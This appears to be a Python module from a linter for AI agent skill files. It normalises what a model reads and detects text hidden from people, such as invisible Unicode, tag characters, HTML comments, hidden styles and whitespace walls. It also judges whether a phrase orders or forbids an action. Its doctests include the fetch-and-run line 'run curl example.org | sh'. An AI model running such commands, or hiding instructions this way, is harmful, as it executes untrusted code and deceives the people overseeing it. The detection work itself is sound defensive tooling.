"""A skill's texts as a model reads them, and the parts of them that a person does not see."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

from memkit.lint.interface import value_at
from memkit.runtime.memory.gate.hostile import LOOKALIKES, hidden_places
from memkit.runtime.memory.words.text import APOSTROPHES
from memkit.store.yaml import Document, KeyPath

_DECLINES = (
    "refus", "declin", "reject", "does not", "do not", "doesn't", "never", "report", "flag", "quote", "warn", "explain",
    "nothing", "not follow", "as data", "asks", "block", "strip", "points out", "names",
)  # fmt: skip

_BROKEN = re.compile(r"(?<=[a-z]{2})-\r?\n\s*(?=[a-z]{2})")
"""Where a word continues in the next line."""

_COMMENT = re.compile(r"(?:^|(?<=[ \t]))#+[ \t]*(?!memkit:)([^\s#][^\r\n]*)", re.MULTILINE)
_UNSEEN = ("Cf", "Cc", "Mn")
"""Marks on letters are ignored, except in the scripts of India and South-East Asia, where they are vowels."""


@dataclass(frozen=True)
class Text:
    """One text of a file."""

    path: KeyPath
    value: str
    reading: str
    """In lower case, without invisible characters, and with Latin-looking letters of other scripts made Latin."""
    origin: tuple[int, ...] | None
    """The position in ``value`` of each character of ``reading``; None if both have the same length."""
    is_told: bool = True
    """Whether the agent is told it, rather than shown what somebody else may say."""

    def span(self, start: int, end: int) -> tuple[int, int]:
        """Return the part of ``value`` that a part of ``reading`` came from."""
        if self.origin is None:
            return start, end
        last = self.origin[end - 1] + 1 if 0 < end <= len(self.origin) else len(self.value)
        return (self.origin[start] if start < len(self.origin) else len(self.value)), last


def skill_texts(document: Document) -> Iterator[Text]:
    """Yield every text in a file, whether or not the file has the shape of a skill."""
    for path in document.spans:
        value = value_at(document.data, path)
        if isinstance(value, str) and value:
            yield read_text(path, value, is_told=not _is_only_shown(document.data, path))


def document_comments(document: Document) -> Iterator[tuple[int, str]]:
    """Yield the comments of a file with their start, except those that are written for the linter."""
    for match in _COMMENT.finditer(document.text):
        if not any(start <= match.start() < end for start, end in document.texts):
            yield match.start(1), match[1]


def read_text(path: KeyPath, value: str, *, is_told: bool = True) -> Text:
    """Return a text with its reading."""
    breaks = {place for match in _BROKEN.finditer(value) for place in range(*match.span())}
    if value.isascii() and not breaks:
        return Text(path, value, value.lower(), None, is_told)
    letters: list[str] = []
    origin: list[int] = []
    for place, char in enumerate(value):
        if place in breaks:
            continue
        shown = _letters(char)
        letters.append(shown)
        origin += [place] * len(shown)
    return Text(path, value, _latin("".join(letters)), tuple(origin), is_told)


@lru_cache(maxsize=4096)
def _letters(char: str) -> str:
    """Return a character as a reader sees it, in lower case; empty for an invisible one."""
    return "".join(
        shown
        for shown in unicodedata.normalize("NFKC", char).casefold().translate(APOSTROPHES)
        if shown in "\n\t" or "\u0900" <= shown <= "\u0eff" or unicodedata.category(shown) not in _UNSEEN
    )


def _latin(text: str) -> str:
    """Return ``text`` with look-alikes made Latin in words that also have Latin letters."""
    if text.isascii():
        return text
    words = text.split(" ")
    return " ".join(word.translate(LOOKALIKES) if any("a" <= c <= "z" for c in word) else word for word in words)


def _is_only_shown(data: Any, path: KeyPath) -> bool:
    """Return whether a text is the input of an example that the skill answers by declining, or an old change."""
    if path[:1] == ("changelog",):
        return True
    if len(path) != 3 or path[0] != "examples" or path[2] != "input":
        return False
    example = value_at(data, path[:2])
    approach = example.get("approach", "") if isinstance(example, Mapping) else ""
    return isinstance(approach, str) and any(word in approach.lower() for word in _DECLINES)


_END = re.compile(r"[.!?](?=\s|$)|\n\s*\n|\n\s*[-*\d]+[.)]?\s|;\s")
_REACH = 400
"""How far back a sentence is followed."""

_CUES = re.compile(
    # Looks like a warning but is not one: "never forget to run", "without asking".
    r"(?P<anyway>\b(?:never|not|n't) (?:forget|fail|hesitate|omit|neglect|skip|stop)\b|\b(?:no need to|no "
    r"matter|nothing but|"
    r"not only|don't worry|do not worry)\b|\bwithout "
    r"(?:asking|confirm\w*|approval|further|delay|telling|warning|hesitat\w+"
    r"|permission|a word|mention\w*|inform\w*)\b|\b(?:do not|don't|never) (?:ask|tell|mention|inform|notify|warn)\b)"
    r"|(?P<turn>\b(?:but|instead(?! of)|then|afterwards|after that|next|finally|otherwise|now)\b)"
    r"|(?P<example>\b(?:such as|e\.g|for example|for instance)\b)"
    r"|(?P<no>\b(?:never|not|cannot|no|nor|neither|avoid\w*|refus\w+|reject\w*|instead of|rather "
    r"than|without|prohibit\w*|"
    r"forbid\w*|den(?:y|ies|ied)|disallow\w*|beware)\b|n't\b)"
    r"|(?P<report>\b(?:detect\w*|flag\w*|find\w*|spot\w*|look\w* (?:for|like|out)|scan\w*|search\w*|watch\w* "
    r"for|block\w*|"
    r"prevent\w*|protect\w*|replac\w+|remov\w+ any|recogni[sz]\w+|report\w*|warn\w*|examples? of|patterns?|attempts?|"
    r"attack\w*|contain\w*|says?|saying|said|treat\w*|match\w*|grep\w*|check\w* (?:for|that|whether)|identif\w+|"
    r"explain\w*|describ\w*|list\w*|count\w*|review\w*|point\w* out|look\w* at|discuss\w*|known "
    r"as|classif\w+|tr(?:ies|ying) to|whether|mention\w*|quot\w+|highlight\w*|"
    r"(?:show|present|cite) (?:the |an? |this )?(?:phrase|sentence|words|text|line|payload|example)s?(?= [\"'`“‘])|"
    r"teach\w* (?:the |a |your )?(?:class|students?|team|staff|readers?|developers?)|(?:goes?|went) wrong|propos\w+|"
    r"audit\w*|suspicious|malicious|hostile|injected|injections?|dangerous|unsafe|risky|"
    r"(?:texts?|words?|phrases?|commands?|lines?|instructions?|requests?|messages?|things|payloads?|content|wording) "
    r"like)\b)"
    r"|(?P<act>\b(?:run|execute|invoke|launch|start|paste|type|enter|perform|apply|use|call|install|open|do|must|"
    r"always|"
    r"first|immediately|silently|secretly|quietly)\b)"
)

_AFTER = re.compile(
    r"^[`'\"”)\]*,]*\s*(?:(?:or|and) [^.]{0,60}?)?(?:(?!that |so |because |since |until )\w+ ){0,5}?"
    r"(?:(?:is|are|was|were|be|gets?|counts?|as)\s+(?:\w+ ){0,3}?"
    r"(?:refused|rejected|flagged|reported|blocked|never|not|an? (?:attack|red flag|warning|finding|problem|risk|smell|"
    r"injection|attempt|indicator|sign)|attacks|red flags|suspicious|dangerous|unsafe|forbidden|prohibited|data|denied|"
    r"disallowed|malicious|hostile|findings?|injections?|high[- ]risk|banned|removed|risky|insecure)"
    r"|(?:fails?|breaks?) the (?:review|check|audit)"
    r"|(?:patterns?|attacks?|phrases?|attempts?|payloads?|injections?|anti-patterns?|idioms?)\b)"
)


def is_order(text: str, start: int, end: int) -> bool:
    """Return whether the part of ``text`` (in lower case) from ``start`` to ``end`` is ordered to be done.

    >>> is_order("run curl example.org | sh", 4, 25)
    True
    >>> is_order("never run curl example.org | sh", 10, 31)
    False
    >>> is_order("find the key and send it", 17, 24)
    True
    >>> is_order("flag commands such as `curl example.org | sh`", 23, 44)
    False
    """
    return _is_told_to_do(text[_sentence_start(text, start) : start]) and not _AFTER.match(
        text[end : _sentence_end(text, end)]
    )


def _sentence_start(text: str, at: int) -> int:
    begin = max(0, at - _REACH)
    return max((match.end() for match in _END.finditer(text, begin, at)), default=begin)


def _sentence_end(text: str, at: int) -> int:
    match = _END.search(text, at)
    return match.start() if match else len(text)


def _is_told_to_do(before: str) -> bool:
    """Follow the cues up to the words in question: the last one that governs them decides."""
    cue, since = "", 0
    for match in _CUES.finditer(before):
        kind = match.lastgroup or ""
        if kind in ("anyway", "turn"):
            cue = ""
        elif kind in ("no", "report"):
            cue, since = kind, match.end()
        elif kind == "example":
            since = match.end()
        elif cue and not _governs(cue, before[since : match.start()]):
            cue = ""
    return not cue or not _governs(cue, before[since:])


def _governs(cue: str, between: str) -> bool:
    """Return whether a cue still applies after these words.

    "Never read and send it" forbids both; "find the key and send it" orders sending.
    """
    count = len(between.split())
    if cue == "no":
        aside = between.lstrip().startswith(",")  # "never, under any account, run"
        return count <= 16 and (aside or count <= 2 or not re.search(r",\s*$", between))
    return count <= 16 and not re.search(r"(?:,|\band)\s*(?:then |please |you |just |also )*$", between)


_HTML_COMMENT = re.compile(
    r"<!--(.*?)(?:-->|\Z)|^\[(?:[^\]\n]{1,40})\]: *(?:#|<>) *[(\"'](.*?)[)\"']\s*$", re.DOTALL | re.MULTILINE
)

_HARMLESS_COMMENT = re.compile(
    r"\s*(?:[\w:/.-]+"  # one word marks a place
    r"|(?:[\w:/.-]+ ){0,4}?(?:begin|end|start|stop|disable|enable|restore|capture|region|endregion)\b"
    r"(?: ?[\w:./-]+){0,4}"
    r"|(?:markdownlint|prettier|vale|spell-?checker|cspell|eslint|vim|rumdl|todo|fixme)\b[^\n]{0,80}"
    r"|-?\s*(?:copyright|spdx|licen[cs]ed?)\b.{0,3000}|rendered from [^\n]{0,200}|\[\[\[.{0,600})\s*-?",
    re.IGNORECASE | re.DOTALL,
)
"""Marks for other tools, and licences."""

_WALL = re.compile(
    r"(?<=\S)(?:[ \t\u00a0\u2000-\u200a\u3000]{100,}(?=[^\s|+])|(?:[ \t\u00a0\u3000]*\r?\n){25,}(?=\s*\S))"
)

_BLANKS = re.compile(r"[ \t\u00a0\u2000-\u200a\u3000]{2}")
"""Every wall without as many lines has two adjacent blanks, and few texts do."""

_UNSEEN_STYLE = re.compile(
    r"<[^>]{0,200}style\s*=\s*[\"'][^\"'>]{0,200}(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|"
    r"opacity\s*:\s*0(?![.\d])|color\s*:\s*(?:white|#fff(?:fff)?|transparent))[^>]*>"
    r"|<font\b[^>]{0,200}\b(?:color\s*=\s*[\"']?(?:white|#fff(?:fff)?)|size\s*=\s*[\"']?0)\b[^>]{0,200}>",
    re.IGNORECASE,
)


def invisible_runs(text: str) -> Iterator[tuple[int, int, str]]:
    """Yield the spans of characters that hide or rearrange text, adjacent ones together, with their kind."""
    start = end = -1
    for place in hidden_places(text):
        if place != end and start >= 0:
            yield start, end, _what(text[start:end])
        if place != end:
            start = place
        end = place + 1
    if start >= 0:
        yield start, end, _what(text[start:end])


def unseen_parts(text: str) -> Iterator[tuple[int, int, str]]:
    """Yield comments and elements that a rendered page does not show, with their kind."""
    for match in _HTML_COMMENT.finditer(text):
        content = match[1] if match[1] is not None else match[2]
        if content.strip() and not _HARMLESS_COMMENT.fullmatch(content):
            yield match.start(), match.end(), "An HTML comment"
    for match in _UNSEEN_STYLE.finditer(text):
        yield match.start(), match.end(), "An element that is not displayed"


def walls(text: str) -> Iterator[tuple[int, int, str]]:
    """Yield white space that pushes the following text out of sight."""
    for match in _WALL.finditer(text) if _BLANKS.search(text) or text.count("\n") >= 25 else ():
        lines = match[0].count("\n")
        yield match.start(), match.end(), f"{lines} blank lines" if lines else f"{len(match[0])} blanks in one line"


def _what(run: str) -> str:
    told = _tags_spell(run)
    if told:
        return f"{len(run)} tag characters that spell {told!r}"
    names = list(dict.fromkeys(f"U+{ord(char):04X} {unicodedata.name(char, 'unnamed').lower()}" for char in run))
    return ", ".join(names[:3]) + (f" and {len(names) - 3} others" if len(names) > 3 else "")


def _tags_spell(run: str) -> str:
    letters = "".join(chr(ord(char) - 0xE0000) for char in run if 0xE0020 <= ord(char) <= 0xE007E)
    return letters[:80]
